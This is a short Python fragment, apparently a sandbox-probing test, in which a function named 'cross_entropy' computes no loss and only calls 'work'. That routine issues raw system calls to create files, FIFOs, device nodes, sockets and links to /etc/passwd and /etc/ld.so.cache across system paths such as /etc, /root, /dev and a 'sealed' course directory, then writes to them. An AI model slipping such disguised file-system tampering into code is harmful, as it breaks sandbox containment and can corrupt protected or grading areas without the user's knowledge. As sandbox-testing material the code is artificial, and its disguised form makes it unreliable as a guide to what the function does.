# It creates files, folders, links, pipes, devices and unnamed files wherever it can think of.
# %%
def work():
    o = {}
    dirs = ['{CANARY_DIR}', '/tmp', '/var/tmp', '/dev/shm', '/dev', '/dev/pts', '/dev/mqueue', '/run', '/etc', '/worker', '/worker/course', '/worker/course/sealed', '/proc/self', '/sys/devices/system/cpu', '/usr/lib', '/', '.', os.path.dirname(os.__file__), sys.path[-1], '/root', '/home']
    for d in dirs:
        p = (d + '/drop').encode()
        for r in (sc(257, -100, p, 0o101, 0o666), sc(2, p, 0o102, 0o666), sc(85, p, 0o666), sc(257, -100, d.encode(), 0o20200002, 0o666), sc(83, p, 0o777), sc(88, b'/etc/passwd', p), sc(133, p, 0o10666, 0), sc(133, p, 0o20666, 0x103), sc(259, -100, p, 0o140666, 0), sc(86, b'/etc/ld.so.cache', p), sc(258, -100, p, 0o777), sc(437, -100, p, ctypes.create_string_buffer(struct.pack('QQQ', 0o101, 0o666, 0)), 24)):
            if isinstance(r, int): o[d] = r; os.write(r, b'x') if r > 2 else 0
            else: o[r] = o.get(r, 0) + 1
    return str(o)
def cross_entropy(logits, targets):
    return once(work)
